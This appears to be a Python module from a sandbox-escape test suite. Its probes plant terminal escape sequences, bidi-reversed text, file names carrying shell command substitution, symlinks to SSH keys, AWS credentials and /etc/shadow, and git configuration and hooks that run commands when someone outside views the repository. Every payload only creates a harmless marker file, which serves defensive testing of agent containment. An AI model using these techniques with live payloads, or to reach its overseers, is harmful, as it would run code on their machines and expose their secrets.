"""What an agent can leave for the people outside who look at it: titles, names, output, a repository. Each would make
a file whose name is its marker, wherever the command ran; smoke/escape looks for it when it has had a look at all."""

import os
import shutil
import subprocess

from paths import caller_home, workspace
from stage import level
from table import LEVELS, NotTried, Planted, probe
from terminal import terminal


def marker(name):
    """The name of the file that tells that something planted was run."""
    return f"planted-{name}"


def commands(name):
    """What would make the marker, in the ways of tmux and of shells; without a slash, for it may be a file's name."""
    touch = f"touch {marker(name)}"
    return f"#({touch}) $({touch}) `{touch}`"


def plant(id, what, layer, levels=LEVELS):
    """Registers a row that leaves something."""
    def register(leave):
        @probe(f"host-{id}", "host", what, layer, levels=levels)
        def attempt():
            leave()
            raise Planted("left for whoever looks from outside")
        return leave
    return register


@plant("title", "have a look from outside run the title", "descriptors")
def _():
    # The title of the terminal, the name of the window, and the folder that the terminal believes to be in.
    text = commands("title")
    os.write(terminal(), f"\033]2;{text}\007\033k{text}\033\\\033]7;file://host/{text}\033\\".encode())


@plant("output", "send escapes to whoever reads the log", "descriptors")
def _():
    # Clipboard, device attributes, the title's report, C1 controls, backspaces, and a colour that does not end.
    text = commands("output")
    os.write(terminal(), (f"\033]52;c;bWFya2Vy\007\033[c\033[21t\u009b21t\033P$qm\033\\"
                          f"planted\b\b\b{text}\033[31m\r\n").encode())


@plant("direction", "turn the direction of whoever's text", "descriptors")
def _():
    # What comes behind such a character is shown from right to left: the text that is read is not what is there.
    os.write(terminal(), "planted \u202e reversed \u2066 isolated\r\n".encode())


@plant("file-names", "send escapes in names of files", "descriptors")
def _():
    for name in (commands("file-names"), "\033]2;planted\007", "-planted", "planted\nname", "planted\u009b21t\udcff"):
        with open(os.path.join(workspace(), name), "w") as file:
            file.write(f"\033]2;{commands('file-names')}\007\n")


@plant("links", "have diff show a file of the host", "mounts")
def _():
    home = caller_home()
    for index, path in enumerate((f"{home}/.ssh/id_ed25519", f"{home}/.aws", "/etc/shadow")):
        os.symlink(path, os.path.join(workspace(), f"planted-link-{index}"))


@plant("repository", "have diff run the repository's settings", "mounts")
def _():
    if not shutil.which("git"):
        raise NotTried("there is no git")
    touch = f"touch {marker('repository')}; cat"
    settings = {"core.fsmonitor": touch, "core.pager": touch, "diff.external": touch, "core.sshCommand": touch,
                "diff.evil.command": touch, "diff.evil.textconv": touch, "filter.evil.clean": touch,
                "filter.evil.smudge": touch, "filter.evil.process": touch, "core.editor": touch, "pager.diff": touch,
                "pager.status": touch, "credential.helper": f"!{touch}"}
    for words in (["init", "-q"], *(["config", name, value] for name, value in settings.items())):
        # In place the repository is the caller's, whose settings and hooks can't be written.
        subprocess.run(["git", *words], check=level() != "trusted", cwd=workspace(), stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)
    with open(os.path.join(workspace(), ".gitattributes"), "w") as file:
        file.write("* filter=evil diff=evil\n")
    for name in ("post-index-change", "fsmonitor-watchman", "pre-commit"):
        path = os.path.join(workspace(), ".git", "hooks", name)
        try:
            with open(path, "w") as file:
                file.write(f"#!/bin/sh\n{touch}\n")
            os.chmod(path, 0o755)
        except OSError:
            if level() != "trusted":
                raise


@plant("servers", "have reached a server or resolver anyhow", "gate")
def _():
    # Nothing to leave: what the attempts before have reached stands in the books of the servers.
    pass
